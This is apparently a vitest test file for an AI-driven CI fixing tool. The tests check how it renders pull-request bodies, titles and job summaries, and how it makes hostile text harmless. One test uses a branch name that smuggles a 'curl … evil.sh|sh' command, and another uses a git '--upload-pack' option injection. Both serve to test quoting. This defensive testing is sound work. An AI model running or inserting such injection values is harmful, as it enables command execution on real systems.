import { describe, expect, it } from 'vitest';
import type { Tripwire } from '../../src/core/events.ts';
import { byteLength } from '../../src/core/text.ts';
import { jobSummary, shortSummary } from '../../src/story/job-summary.ts';
import type { StoryEvent } from '../../src/story/moment.ts';
import {
  endComment,
  MAX_BODY_CHARS,
  pullRequestBody,
  resultLine,
  styleOf,
  titleOf,
} from '../../src/story/report.ts';
import { isReady } from '../../src/story/run-record.ts';
import { reportOf } from '../core/scripted-oracle.ts';
import { BASE, EVENTS, HOSTILE, LINKS, recordOfTexts, recordWith, testsOf } from './records.ts';

const issue = (title: string) => ({ kind: 'issue', number: 12, title }) as const;

/** The lines of a Markdown text that stand outside of every fenced block; a block left open is an error. */
function outsideOfFences(markdown: string): string {
  const outside: string[] = [];
  let ticks: string | null = null;
  for (const line of markdown.split('\n')) {
    const mark = /^`{3,}/.exec(line)?.[0] ?? null;
    if (ticks === null && mark === null) outside.push(line);
    else if (ticks === null) ticks = mark;
    else if (line.trim() === ticks) ticks = null;
  }
  expect(ticks).toBeNull();
  return outside.join('\n');
}

describe('pullRequestBody', () => {
  it('tells what was done, red to green, what it cost and where its record lies', async () => {
    const body = pullRequestBody(recordWith(), LINKS).replaceAll('\u200b', '');
    await expect(`${body}\n`).toMatchFileSnapshot('golden/pull-request.md');
  });

  it('closes the issue that it was started by, and no other', () => {
    const body = pullRequestBody(
      recordWith({ summary: 'Fixes #99. Closes #13', trigger: issue('It fails') }),
      LINKS,
    );
    expect(body.match(/\b(fix|close|resolve)\w*:? #\d+/gi)).toEqual(['Fixes #12']);
    expect(pullRequestBody(recordWith({ summary: 'Fixes #99' }), LINKS)).not.toMatch(/fixes #\d/i);
  });

  it('says on top that nothing proves an unverified change, and why', () => {
    const green = testsOf({ ok: true, verdict: 'green', exit_code: 0, output: 'ok' });
    const tested = [{ kind: 'tests', payload: green }];
    const before = pullRequestBody(recordWith({ outcome: 'unverified', events: tested }), LINKS);
    expect(before).toContain(
      '> [!WARNING]\n> **Unverified.** The tests are green with this change, and were green without it',
    );
    expect(before).toMatch(/^\*\*Unverified/);
    const never = pullRequestBody(recordWith({ outcome: 'unverified', events: [] }), LINKS);
    expect(never).toContain('> [!WARNING]\n> **Unverified.** The tests were never run');
  });

  it('quotes a branch name that a shell would run a part of, and leaves out one that git would read as an option', () => {
    const bodyFor = (branch: string) => pullRequestBody(recordWith({ branch }), LINKS);
    expect(bodyFor("fix;curl$IFS-s$IFS'evil.sh|sh")).toContain(
      "git fetch origin 'fix;curl$IFS-s$IFS'\\''evil.sh|sh' && git checkout FETCH_HEAD && ",
    );
    expect(bodyFor('--upload-pack=x')).not.toContain('git fetch');
  });

  it('shows that the tests are red again without the patch', () => {
    const red = { kind: 'tests', payload: testsOf({ phase: 'counterfactual' }) };
    const body = pullRequestBody(recordWith({ events: [...EVENTS, red] }), LINKS);
    expect(body).toContain('| Again, in a fresh copy | 🟢 green (exit 0, 2.3 s) |');
    expect(body).toContain('| Without the change | 🔴 red (exit 1, 2.3 s) |');
    expect(body).toMatch(/^\*\*.*; red, green, red; /);
  });

  it('says what weakens it', () => {
    const notes = ['job "unit" runs in a container'];
    expect(pullRequestBody(recordWith({ notes }), LINKS)).toContain(
      '### Notes\n\n- job "unit" runs in a container',
    );
  });

  it('shows lines that can make any test pass before all others, and says that it is a draft for them', () => {
    const at = { path: 'a.py', line: 3, why: 'so' };
    const network = { ...at, kind: 'opens the network' } as const;
    const skips = { ...at, kind: 'skips tests' } as const;
    const body = (tripwires: readonly Tripwire[]) => pullRequestBody(recordWith({ tripwires }), LINKS);
    const warned = body([network, skips]);
    expect(warned).toMatch(
      /\*\*A draft: [^*]+\*\* \*\*Look at these.*\n.*skips tests: so\n.*opens the network: so/,
    );
    expect(body([network])).not.toContain('A draft');
    expect(isReady(recordWith({ tripwires: [network] }))).toBe(true);
    expect(isReady(recordWith({ tripwires: [skips] }))).toBe(false);
  });

  it('says that the trace was not uploaded', () => {
    const body = pullRequestBody(recordWith({ trace: { sha256: null, artifactId: null } }), LINKS);
    expect(body).toContain('| Trace | not uploaded |');
  });

  it('leaves out sections where there is little room, and keeps what it says on top and what closes the issue', () => {
    const record = recordWith({ trigger: issue('It fails') });
    const whole = pullRequestBody(record, LINKS);
    for (const maxChars of [whole.length - 1, 1_500, 800]) {
      const body = pullRequestBody(record, LINKS, maxChars);
      expect(body.length).toBeLessThanOrEqual(maxChars);
      expect(body).toMatch(/^\*\*Tests red → green[\s\S]*There was no room for the whole report[\s\S]*$/);
      expect(body).toContain('Fixes #12');
    }
    expect(pullRequestBody(record, LINKS, 1_500)).not.toContain('What the tests printed');
  });
});

describe('styleOf', () => {
  it.each([
    [['fix(core): a', 'feat: b', 'Merge pull request #3', 'docs: c'], 'conventional'],
    [['Fix the rounding', 'Add a flag', 'Bump x from 1 to 2', 'Say why'], 'sentence'],
    [['Fix a', 'fix: b', 'feat: c'], 'conventional'],
    [['WIP', 'stuff', '[core] x'], 'conventional'],
    [[], 'conventional'],
  ] as const)('of %j is %s', (subjects, style) => {
    expect(styleOf(subjects)).toBe(style);
  });

  it('words the title', () => {
    expect(titleOf(recordWith(), 'sentence')).toBe('Fix CI on main');
  });

  it.each([
    ['say so in the comment', 'Say so in the comment'],
    ['Fix the rounding', 'Fix the rounding'],
  ])('takes what people said to do for the sentence that it is: %s', (goal, title) => {
    const trigger = { kind: 'comment', on: 'pull_request', number: 3, title: 'x', commentId: 1 } as const;
    const record = recordWith({ trigger });
    expect(titleOf({ ...record, task: { ...record.task, goal } }, 'sentence')).toBe(title);
  });
});

describe('headline', () => {
  const reported = (failures: number, passed: number) => ({
    report: reportOf(
      Array.from({ length: failures }, (_, at) => `t${at}`),
      passed,
    ),
  });
  const unnamed = (failed: number) => ({
    report: { source: 'output of ctest', failures: [], passed: null, failed, skipped: null },
  });
  const run = (payload: Parameters<typeof testsOf>[0]) => ({
    kind: 'tests' as const,
    payload: testsOf(payload),
  });
  const green = { ok: true, verdict: 'green' as const, exit_code: 0 };

  it.each([
    [
      'not_fixed',
      [run(reported(2, 1)), run({ phase: 'write', ...reported(1, 2) })],
      'Not fixed, 2 failing tests → 1; red, red; no model',
    ],
    [
      'not_fixed',
      [run(unnamed(10)), run({ phase: 'write', ...unnamed(4) })],
      'Not fixed, 10 failing tests → 4; red, red; no model',
    ],
    [
      'unverified',
      [run({ ...green, ...reported(0, 3) }), run({ phase: 'confirm', ...green, ...reported(0, 4) })],
      'Unverified, 4 pass; green, green; no model',
    ],
    [
      'unverified',
      [run(green), run({ phase: 'confirm', ...green })],
      'Unverified, by exit code only; green, green; no model',
    ],
    ['infra_error', [run({ verdict: 'not_found' })], 'Infrastructure error; command not found; no model'],
  ] as const)('of %s', (outcome, events, text) => {
    expect(resultLine(recordWith({ outcome, events }))).toBe(text);
  });

  it('is told once in the comment', () => {
    const record = recordWith({
      outcome: 'infra_error',
      events: [run({ verdict: 'not_found' })],
      summary: 'No.',
    });
    expect(endComment(record, LINKS, null)).toBe(
      `**agent-fix: infrastructure error.** Command not found; no model.\n\nNo.\n\n[The job and its record](${LINKS.run})`,
    );
  });
});

describe('titleOf', () => {
  it.each([
    [issue('Crash on `$(id)`\n@mona fixes #9'), 'fix: Crash on `$(id)` @\u200bmona fixes #\u200b9 (#12)'],
    [issue('Fix: the rounding'), 'fix: the rounding (#12)'],
    [{ kind: 'dispatch', runId: 1 } as const, 'fix: Make it pass.'],
    [{ kind: 'step', runId: 1, workflowName: 'CI' } as const, 'fix: CI on main'],
    [{ kind: 'review', number: 3, title: 'x', reviewId: 1 } as const, 'fix: what the review of #3 asks for'],
  ])('is made from the trigger: %j', (trigger, title) => {
    expect(titleOf(recordWith({ trigger }), 'conventional')).toBe(title);
  });

  it('is short, whatever it is made from', () => {
    expect(titleOf(recordWith({ trigger: issue('x'.repeat(1000)) }), 'conventional').length).toBeLessThan(
      120,
    );
  });
});

describe('jobSummary', () => {
  const published = {
    kind: 'published',
    number: 3,
    url: 'https://github.com/octo/app/pull/3',
    operation: 'created',
    pushed: { branch: 'agent-fix/x', commitSha: BASE, commitVerified: true },
    warnings: ['The labels could not be set (HTTP 403).'],
  } as const;

  it('tells the story with a row for each reply', () => {
    const text = jobSummary(recordWith(), LINKS, published).replaceAll('\u200b', '');
    expect(text).toMatch(/^## agent-fix: fixed\n\nThe tests were red, are green/);
    expect(text).toContain(
      '[Pull request 3](https://github.com/octo/app/pull/3) was created. The labels could not be set',
    );
    expect(text).toContain(`| Turn | What happened | Result | Tests | Tokens in · out |
|---:|---|---|---|---:|
|  | <code>tests at the base commit</code> |  | 🔴 red |  |
| 1 | <code>read&#x5f;file add.py</code> |  |  | 1200 · 40 |
| 2 | <code>write&#x5f;file pytest.ini</code> | denied (W09) |  | 1200 · 40 |
| 3 | <code>malformed reply</code> | unknown tool run\\_tests |  | 1200 · 40 |
| 4 | <code>write&#x5f;file add.py</code> |  | 🟢 green | 1200 · 40 |
| 5 | <code>final: done</code> |  |  | 1200 · 40 |
|  | <code>confirming tests</code> |  | 🟢 green |  |`);
  });

  it('says why nothing was published', () => {
    const problem = 'Nothing was pushed: "x" is a workflow.';
    const text = jobSummary(recordWith(), LINKS, { kind: 'failed', problem, pushed: null });
    expect(text).toContain('**Not published.** Nothing was pushed: "x" is a workflow.');
  });

  it('keeps the first and the last of a thousand rows, and says how many lie between', () => {
    const action = { type: 'tool_call', name: 'read_file', args: { rel_path: 'a.py' } };
    const events: readonly StoryEvent[] = Array.from({ length: 1000 }, (_, t) => ({
      kind: 'llm_action',
      payload: { t, action },
    }));
    const text = jobSummary(recordWith({ events }), LINKS, null);
    expect(text).toMatch(/\| 1 \| .*… \d+ more in the trace ….*\| 1000 \| /s);
  });

  it('is short for a run that never started', () => {
    expect(shortSummary('refused', 'trudy has no write access')).toBe(
      '## agent-fix: refused\n\nNothing was run: the gate refused the event. Reason: trudy has no write access.\n',
    );
  });
});

describe.each([
  ['pullRequestBody', (record: ReturnType<typeof recordWith>) => pullRequestBody(record, LINKS)],
  ['jobSummary', (record: ReturnType<typeof recordWith>) => jobSummary(record, LINKS, null)],
])('%s, of hostile texts', (name, render) => {
  it('G10 G12 G13 G14 G15 F10 obeys none of them', () => {
    const markdown = render(recordOfTexts(HOSTILE));
    expect(markdown).not.toMatch(/@[A-Za-z]|(?<!&)#\d|GH-\d|\u202e|\u001b|\u{e0041}/u);
    const outside = outsideOfFences(markdown);
    const tags = outside.match(/<[^>]*>/g) ?? [];
    const ours = ['sub', 'code', 'details', 'summary'].flatMap((tag) => [`<${tag}>`, `</${tag}>`]);
    expect(tags.filter((tag) => !ours.includes(tag))).toEqual([]);
    const links = [...outside.matchAll(/(?<!\\)\[[^\]]*\]\(([^)]*)\)/g)].map(([, address]) => address);
    expect(links.filter((address) => !address?.startsWith('https://github.com/octo/app/'))).toEqual([]);
    expect(outside).not.toMatch(/!\[(?!WARNING)/);
    for (const row of outside.split('\n').filter((line) => line.startsWith('|'))) {
      const cells = row.split(/(?<!\\)\|/).length - 2;
      expect([2, 5]).toContain(cells);
    }
  });

  it.each([
    ['words', 'x '],
    ['signs that grow when they are made harmless', '<`*@a#1'],
    ['wide characters', '𝕏漢'],
    ['back-ticks', '`'],
    ['lines', 'a\n'],
    ['blocks', '```\n'],
  ])('G16 keeps its size for 200 KB of %s', (_, piece) => {
    const markdown = render(recordOfTexts(piece.repeat(Math.ceil(200_000 / piece.length)), 200));
    if (name === 'jobSummary') expect(byteLength(markdown)).toBeLessThanOrEqual(60 * 1024);
    else expect(markdown.length).toBeLessThanOrEqual(MAX_BODY_CHARS);
    expect(markdown).toMatch(/left out|more files/);
    outsideOfFences(markdown);
  });
});
